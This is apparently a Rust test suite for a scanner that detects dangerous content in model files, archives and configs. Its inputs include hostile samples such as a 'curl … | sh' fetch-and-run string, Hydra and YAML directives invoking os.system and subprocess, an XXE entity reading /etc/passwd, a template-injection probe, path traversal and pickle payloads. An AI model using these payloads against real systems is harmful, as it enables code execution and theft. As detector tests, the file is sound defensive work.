//! tar is tested beside its reader; here: compressed streams, 7z, safetensors, gguf, documents, executables.

mod support;

use std::io::Write;
use support::{
    EVIL, calls, directives, gaps, hidden, readings, resources, structures, templates, unsafe_paths,
};
use wb_blob::Blob;
use wb_scan::{Options, scan};
use wb_verdict::{FactKind, Facts};

fn facts(bytes: impl Into<Vec<u8>>) -> Facts {
    scan(&Blob::from_vec(bytes.into()), &Options::default())
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn bzip2(data: &[u8]) -> Vec<u8> {
    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn lz4(data: &[u8]) -> Vec<u8> {
    let mut e = lz4_flex::frame::FrameEncoder::new(Vec::new());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn xz(data: &[u8]) -> Vec<u8> {
    let mut e = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::with_preset(6)).unwrap();
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn lzma(data: &[u8]) -> Vec<u8> {
    let options = lzma_rust2::LzmaOptions::with_preset(6);
    let mut e = lzma_rust2::LzmaWriter::new_use_header(Vec::new(), &options, None).unwrap();
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn zstd(data: &[u8]) -> Vec<u8> {
    ruzstd::encoding::compress_to_vec(data, ruzstd::encoding::CompressionLevel::Fastest)
}

type Compress = fn(&[u8]) -> Vec<u8>;
const ALL: [(&str, Compress); 7] = [
    ("gzip", gzip),
    ("zlib", zlib),
    ("bzip2", bzip2),
    ("lz4", lz4),
    ("xz", xz),
    ("lzma", lzma),
    ("zstd", zstd),
];

#[test]
fn every_codec_is_opened_and_honest_content_is_silent() {
    for (id, compress) in ALL {
        let f = facts(compress(EVIL));
        assert_eq!(f.formats, [id]);
        assert_eq!(calls(&f), ["posix.system"], "{id}");
        assert!(structures(&f).is_empty() && f.gaps.is_empty(), "{id}: {f:?}");
    }
}

#[test]
fn concatenated_streams_are_one_content() {
    for (id, compress) in ALL.into_iter().filter(|(id, _)| *id != "zlib" && *id != "lzma") {
        let (a, b) = EVIL.split_at(9);
        let f = facts([compress(a), compress(b)].concat());
        assert_eq!(calls(&f), ["posix.system"], "{id}: {f:?}");
        assert!(structures(&f).is_empty(), "{id}: {f:?}");
    }
}

#[test]
fn what_came_out_before_an_error_is_scanned() {
    // bzip2, lz4 and zstd hold all of this in one block, of which a decoder gives all or nothing.
    for (id, compress) in ALL.into_iter().filter(|(id, _)| !matches!(*id, "bzip2" | "lz4" | "zstd")) {
        let noise: Vec<u8> = (0..40_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
        let mut packed = compress(&[EVIL, &noise].concat());
        packed.truncate(packed.len() - 20);
        let f = facts(packed);
        assert_eq!(calls(&f), ["posix.system"], "{id}: {f:?}");
        assert!(!f.gaps.is_empty(), "{id}");
    }
}

#[test]
fn bytes_behind_a_stream_are_scanned() {
    let f = facts([gzip(b"\x80\x02}."), EVIL.to_vec()].concat());
    assert_eq!(structures(&f), ["compressed-trailing-bytes"]);
    assert_eq!(calls(&f), ["posix.system"]);
    assert!(structures(&facts([gzip(b"\x80\x02}."), vec![0; 100]].concat())).is_empty());
}

#[test]
fn nesting_is_followed_and_bounded() {
    let mut all = EVIL.to_vec();
    for _ in 0..6 {
        all = zlib(&gzip(&all));
    }
    assert_eq!(calls(&facts(all.clone())), ["posix.system"]);
    for _ in 0..10 {
        all = gzip(&all);
    }
    let f = facts(all);
    assert!(gaps(&f).contains(&"nesting-depth-limit".to_string()), "{f:?}");
}

#[test]
fn large_content_is_read_again_instead_of_held() {
    // 40 MiB of content, the payload in the middle of an archive at its end.
    let mut zip = support::Zip::of(vec![support::Entry::new("a/data.pkl", EVIL)]);
    zip.entries.insert(0, support::Entry::new("a/data/0", &vec![7; 40 << 20]));
    zip.entries.push(support::Entry::new("a/version", b"3\n"));
    let f = facts(gzip(&zip.bytes()));
    assert_eq!(calls(&f), ["posix.system"], "{:?}", f.gaps);
    assert!(f.gaps.is_empty());
}

#[test]
fn filling_is_named() {
    let f = facts(gzip(&vec![0; 120 << 20]));
    assert_eq!(resources(&f), ["extreme-compression-ratio"]);
    assert!(resources(&facts(gzip(&vec![0; 1 << 20]))).is_empty());
}

#[test]
fn old_joblib_files_are_opened() {
    let f = facts([b"ZF0x35              ".to_vec(), zlib(EVIL)].concat());
    assert_eq!(calls(&f), ["posix.system"], "{f:?}");
}

fn seven_zip(name: &str, data: &[u8]) -> Vec<u8> {
    let mut h =
        vec![1, 4, 6, 0, 1, 9, data.len() as u8, 0, 7, 0x0b, 1, 0, 1, 1, 0, 0x0c, data.len() as u8, 0x0a, 1];
    h.extend(crc32fast::hash(data).to_le_bytes());
    h.extend([0, 8, 0, 0, 5, 1, 0x11, (2 * name.len() + 3) as u8, 0]);
    h.extend(name.encode_utf16().chain([0]).flat_map(u16::to_le_bytes));
    h.extend([0, 0]);
    let mut start = (data.len() as u64).to_le_bytes().to_vec();
    start.extend((h.len() as u64).to_le_bytes());
    start.extend(crc32fast::hash(&h).to_le_bytes());
    let mut all = b"7z\xbc\xaf\x27\x1c\x00\x04".to_vec();
    all.extend(crc32fast::hash(&start).to_le_bytes());
    all.extend(start);
    all.extend(data);
    all.extend(h);
    all
}

#[test]
fn seven_zip_members_are_scanned() {
    let f = facts(seven_zip("a/data.pkl", EVIL));
    assert_eq!(f.formats, ["7z"]);
    assert_eq!(calls(&f), ["posix.system"], "{f:?}");
    let f = facts(seven_zip("../x", b"text"));
    assert_eq!(unsafe_paths(&f), ["traversal"]);
    let f = facts([seven_zip("a", b"text"), EVIL.to_vec()].concat());
    assert_eq!(structures(&f), ["7z-trailing-bytes"]);
    assert_eq!(calls(&f), ["posix.system"]);
}

fn safetensors(header: &str, data: &[u8]) -> Vec<u8> {
    [&(header.len() as u64).to_le_bytes()[..], header.as_bytes(), data].concat()
}

#[test]
fn safetensors_that_follow_the_format_are_silent() {
    let header = r#"{"__metadata__":{"format":"pt"},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"I8","shape":[0,5],"data_offsets":[8,8]}}   "#;
    let f = facts(safetensors(header, &[0; 8]));
    assert_eq!(f.formats, ["safetensors"]);
    assert!(f.facts.is_empty() && f.gaps.is_empty(), "{f:?}");
}

#[test]
fn each_broken_rule_of_safetensors_is_named() {
    let one = |dtype: &str, shape: &str, at: &str| {
        format!(r#"{{"a":{{"dtype":"{dtype}","shape":{shape},"data_offsets":{at}}}}}"#)
    };
    let cases: [(&str, String, usize); 8] = [
        ("safetensors-tensor-size-differs", one("F32", "[3]", "[0,8]"), 8),
        ("safetensors-tensor-out-of-bounds", one("F32", "[2]", "[0,8]"), 4),
        ("safetensors-unknown-dtype", one("F33", "[2]", "[0,8]"), 8),
        ("safetensors-hole", one("F32", "[1]", "[4,8]"), 8),
        ("safetensors-trailing-bytes", one("F32", "[1]", "[0,4]"), 8),
        (
            "safetensors-duplicate-key",
            one("F32", "[1]", "[0,4]").replace("\"dtype\"", "\"dtype\":\"F32\",\"dtype\""),
            4,
        ),
        (
            "safetensors-unknown-field",
            one("F32", "[1]", "[0,4]").replace("\"shape\"", "\"x\":1,\"shape\""),
            4,
        ),
        ("safetensors-bytes-after-json", one("F32", "[1]", "[0,4]") + "  x", 4),
    ];
    for (code, header, len) in cases {
        let f = facts(safetensors(&header, &vec![0; len]));
        assert!(structures(&f).contains(&code.to_string()), "{code}: {f:?}");
    }
    let twice = r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}"#;
    assert_eq!(structures(&facts(safetensors(twice, &[0; 8]))), ["safetensors-duplicate-key"]);
    let overlap = r#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}"#;
    assert_eq!(structures(&facts(safetensors(overlap, &[0; 8]))), ["safetensors-tensor-overlap"]);
    let overflow = one("F32", "[4611686018427387904,8]", "[0,8]");
    assert_eq!(resources(&facts(safetensors(&overflow, &[0; 8]))), ["tensor-size-overflow"]);
    let zero = one("F32", "[0,9223372036854775807,9223372036854775807]", "[0,0]");
    assert_eq!(resources(&facts(safetensors(&zero, b""))), ["tensor-size-overflow"]);
}

#[test]
fn safetensors_metadata_and_hidden_content() {
    let header = r#"{"__metadata__":{"c":"{\"_target_\": \"os.system\"}"}}"#;
    assert_eq!(directives(&facts(safetensors(header, b""))), ["hydra-target-dangerous"]);
    let header = r#"{"__metadata__":{"c":"curl http://x/y | sh"}}"#;
    assert_eq!(directives(&facts(safetensors(header, b""))), ["shell-command"]);
    let data = [EVIL, &[0; 100]].concat();
    let header = format!(r#"{{"w":{{"dtype":"U8","shape":[{0}],"data_offsets":[0,{0}]}}}}"#, data.len());
    let f = facts(safetensors(&header, &data));
    assert_eq!(hidden(&f), ["pickle"]);
    assert!(calls(&f).contains(&"posix.system".to_string()));
    let secret = b"secret message in the low bits of weights";
    let bits: Vec<u8> = secret
        .iter()
        .flat_map(|b| (0..8).map(move |i| b >> i & 1))
        .flat_map(|bit| (1.5f32.to_bits() | u32::from(bit)).to_le_bytes())
        .collect();
    let header = format!(
        r#"{{"w":{{"dtype":"F32","shape":[{}],"data_offsets":[0,{}]}}}}"#,
        bits.len() / 4,
        bits.len()
    );
    assert_eq!(hidden(&facts(safetensors(&header, &bits))), ["text"]);
}

struct Gguf {
    big: bool,
    kv: Vec<Vec<u8>>,
    tensors: Vec<Vec<u8>>,
    data: Vec<u8>,
}

impl Gguf {
    fn new(big: bool) -> Self {
        Self { big, kv: Vec::new(), tensors: Vec::new(), data: Vec::new() }
    }

    fn n32(&self, n: u32) -> [u8; 4] {
        if self.big { n.to_be_bytes() } else { n.to_le_bytes() }
    }

    fn n64(&self, n: u64) -> [u8; 8] {
        if self.big { n.to_be_bytes() } else { n.to_le_bytes() }
    }

    fn string(&self, s: &str) -> Vec<u8> {
        [&self.n64(s.len() as u64)[..], s.as_bytes()].concat()
    }

    fn text(mut self, key: &str, value: &str) -> Self {
        self.kv.push([self.string(key), self.n32(8).to_vec(), self.string(value)].concat());
        self
    }

    fn tensor(mut self, name: &str, dims: &[u64], kind: u32, offset: u64) -> Self {
        let mut t = self.string(name);
        t.extend(self.n32(dims.len() as u32));
        t.extend(dims.iter().flat_map(|d| self.n64(*d)));
        t.extend(self.n32(kind));
        t.extend(self.n64(offset));
        self.tensors.push(t);
        self
    }

    fn bytes(self) -> Vec<u8> {
        let mut all = b"GGUF".to_vec();
        all.extend(self.n32(3));
        all.extend(self.n64(self.tensors.len() as u64));
        all.extend(self.n64(self.kv.len() as u64));
        all.extend(self.kv.concat());
        all.extend(self.tensors.concat());
        all.resize(all.len().next_multiple_of(32), 0);
        all.extend(self.data);
        all
    }
}

#[test]
fn gguf_in_both_byte_orders() {
    for big in [false, true] {
        let mut g =
            Gguf::new(big).text("general.name", "x").text("tokenizer.chat_template", "{{ messages }}");
        g = g.tensor("a", &[4], 0, 0).tensor("b", &[32], 8, 32);
        g.data = vec![0; 32 + 34];
        let f = facts(g.bytes());
        assert_eq!(f.formats, ["gguf"]);
        assert_eq!(templates(&f), ["harmless"]);
        assert!(structures(&f).is_empty() && resources(&f).is_empty() && f.gaps.is_empty(), "{f:?}");
        let g = Gguf::new(big).text("tokenizer.chat_template.tool_use", "{{ ''.__class__ }}");
        assert_eq!(templates(&facts(g.bytes())), ["dangerous"]);
    }
}

#[test]
fn each_broken_rule_of_gguf_is_named() {
    let with = |g: Gguf, data: usize| {
        let mut g = g;
        g.data = vec![1; data];
        facts(g.bytes())
    };
    let new = || Gguf::new(false);
    let cases: [(&str, Facts); 9] = [
        ("gguf-duplicate-key", facts(new().text("a", "1").text("a", "2").bytes())),
        ("gguf-duplicate-tensor", with(new().tensor("a", &[8], 0, 0).tensor("a", &[8], 0, 32), 64)),
        ("gguf-too-many-dimensions", with(new().tensor("a", &[1, 1, 1, 1, 1], 0, 0), 4)),
        ("gguf-unknown-tensor-type", with(new().tensor("a", &[1], 99, 0), 4)),
        ("gguf-tensor-out-of-bounds", with(new().tensor("a", &[100], 0, 0), 4)),
        ("gguf-tensor-overlap", with(new().tensor("a", &[16], 0, 0).tensor("b", &[1], 0, 32), 64)),
        ("gguf-unaligned-tensor", with(new().tensor("a", &[1], 0, 4), 8)),
        ("gguf-trailing-bytes", with(new().tensor("a", &[1], 0, 0), 40)),
        ("gguf-bad-row-length", with(new().tensor("a", &[33], 8, 0), 68)),
    ];
    for (code, f) in cases {
        assert!(structures(&f).contains(&code.to_string()), "{code}: {f:?}");
    }
    let huge = with(new().tensor("a", &[1 << 40, 1 << 40], 0, 0), 4);
    assert_eq!(resources(&huge), ["tensor-size-overflow"]);
    let mut counts = b"GGUF\x03\0\0\0".to_vec();
    counts.extend(u64::MAX.to_le_bytes());
    counts.extend(0u64.to_le_bytes());
    assert_eq!(resources(&facts(counts)), ["gguf-impossible-count"]);
    assert_eq!(structures(&facts(b"GGUF\x03\0\0\0\x01".to_vec())), ["gguf-malformed"]);
}

#[test]
fn an_archive_behind_gguf_is_found() {
    let zip = support::Zip::of(vec![support::Entry::new("x.pkl", EVIL)]).bytes();
    let f = facts([Gguf::new(false).text("a", "b").bytes(), zip].concat());
    assert!(calls(&f).contains(&"posix.system".to_string()));
    assert!(structures(&f).contains(&"gguf-trailing-bytes".to_string()), "{f:?}");
}

#[test]
fn plain_documents_give_readings_and_nothing_else() {
    for (text, expected) in [
        // Two names, one a line: it parses.
        ("hello\nworld\n", vec!["text", "python"]),
        ("hello world\n", vec!["text", "not-python"]),
        ("{\"model_type\": \"bert\", \"x\": [1, 2.5]}", vec!["text", "json"]),
        ("{\"a\":1}\n{\"a\":2}\n", vec!["text", "json"]),
        ("import os\nos.remove('x')\n", vec!["text", "python"]),
        ("a,b\n1,2\n", vec!["text", "python"]),
        ("", vec!["text"]),
        ("na\u{ef}ve \u{4f60}\u{597d}\n", vec!["text", "not-python"]),
    ] {
        let f = facts(text);
        assert_eq!(readings(&f), expected, "{text}");
        let others = f.facts.iter().filter(
            |f| !matches!(&f.kind, FactKind::Source { code, .. } if code == "defines" || code == "imports"),
        );
        assert_eq!(others.count(), expected.len(), "{text}: {f:?}");
        assert!(f.gaps.is_empty());
    }
    let utf16: Vec<u8> =
        [0xfeff].into_iter().chain("import os\n".encode_utf16()).flat_map(u16::to_le_bytes).collect();
    assert_eq!(readings(&facts(utf16)), ["text", "not-python"], "python does not read utf-16");
}

#[test]
fn keys_that_make_loaders_run_code() {
    let cases = [
        (r#"{"a":{"_target_":"builtins.eval"}}"#, "hydra-target-dangerous"),
        (r#"{"a":{"_target_":"my.models.Net"}}"#, "hydra-target"),
        (r#"{"auto_map":{"AutoModel":"org/x--m.M"}}"#, "code-elsewhere"),
        (r#"{"trust_remote_code": true, "x": NaN}"#, "remote-code"),
        (r#"[{"idx":0,"name":"0","path":"","type":"evil.deep.Module"}]"#, "imported-module"),
        (r#"{"_class_name":"P","_diffusers_version":"0.30","unet":["evil.deep","Net"]}"#, "imported-module"),
        ("x:\n  - _target_: os.system\n", "hydra-target-dangerous"),
        ("x: !!python/object/apply:subprocess.run [x]\n", "hydra-target-dangerous"),
        (r#"{"class_name":"Lambda","config":{}}"#, "keras-lambda"),
        (
            "<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x/>",
            "xml-external-entity",
        ),
    ];
    for (text, code) in cases {
        assert!(directives(&facts(text)).contains(&code.to_string()), "{text}: {:?}", facts(text));
    }
    let f = facts(r#"{"chat_template":[{"name":"default","template":"{{ ''.__class__ }}"}]}"#);
    assert_eq!(templates(&f), ["dangerous"]);
    let deep = "[".repeat(100_000) + &"]".repeat(100_000);
    assert_eq!(resources(&facts(deep)), ["json-too-deep"]);
    let f = facts(r#"{"weight_map":{"w":"../../x"}}"#);
    assert_eq!(unsafe_paths(&f), ["traversal"]);
}

#[test]
fn large_json_is_looked_over_too() {
    let mut text = "{\"filler\":[".to_string();
    text.push_str(&"12345678,".repeat(900_000));
    text.push_str("0],\"deep\":{\"_target_\":\"os.system\"},\"chat_template\":\"{{ ''.__class__ }}\"}");
    let f = facts(text);
    assert_eq!(directives(&f), ["hydra-target-dangerous"]);
    assert_eq!(templates(&f), ["dangerous"]);
}

fn png() -> Vec<u8> {
    let mut p = b"\x89PNG\r\n\x1a\n".to_vec();
    for (kind, data) in [(b"IHDR", &[0u8; 13][..]), (b"IDAT", b"xxxx"), (b"IEND", b"")] {
        p.extend((data.len() as u32).to_be_bytes());
        p.extend(kind);
        p.extend(data);
        p.extend([0; 4]);
    }
    p
}

#[test]
fn pictures_end_where_they_end() {
    let f = facts(png());
    assert_eq!(f.formats, ["png"]);
    assert!(f.facts.is_empty() && f.gaps.is_empty());
    let f = facts([png(), EVIL.to_vec()].concat());
    assert_eq!(hidden(&f), ["pickle"]);
    assert_eq!(calls(&f), ["posix.system"]);
    let gif = b"GIF89a\x01\0\x01\0\0\0\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0\x3b".to_vec();
    assert!(facts(gif.clone()).facts.is_empty());
    let f = facts([gif, b"#!/bin/sh\nrm x\n".to_vec()].concat());
    assert_eq!(hidden(&f), ["shebang"]);
    assert!(f.facts.iter().any(|f| matches!(f.kind, FactKind::Executable { .. })));
}

#[test]
fn programs_are_executables() {
    let mut pe = vec![0u8; 256];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let pyc = [&3495u16.to_le_bytes()[..], b"\r\n", &[0; 12], b"\xe3\0\0\0\0"].concat();
    for (bytes, code) in [
        (b"\x7fELF\x02\x01\x01\0\0\0\0\0".to_vec(), "elf"),
        (pe, "pe"),
        (pyc, "python-bytecode"),
        (b"#!/bin/sh\necho hi\n".to_vec(), "shebang"),
        (b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0".to_vec(), "mach-o"),
    ] {
        let f = facts(bytes);
        let found = f.facts.iter().any(|f| matches!(&f.kind, FactKind::Executable { code: c } if c == code));
        assert!(found, "{code}: {f:?}");
    }
}

#[test]
fn known_formats_that_are_not_judged_are_unsupported() {
    let cases: [(&[u8], &str); 2] =
        [(b"SQLite format 3\0\x10\0", "sqlite"), (b"\xac\xed\x00\x05sr\0\x01x", "java-serialization")];
    for (bytes, format) in cases {
        let f = facts(bytes);
        let found =
            f.facts.iter().any(|f| matches!(&f.kind, FactKind::Unsupported { format: x, .. } if x == format));
        assert!(found, "{format}: {f:?}");
    }
}
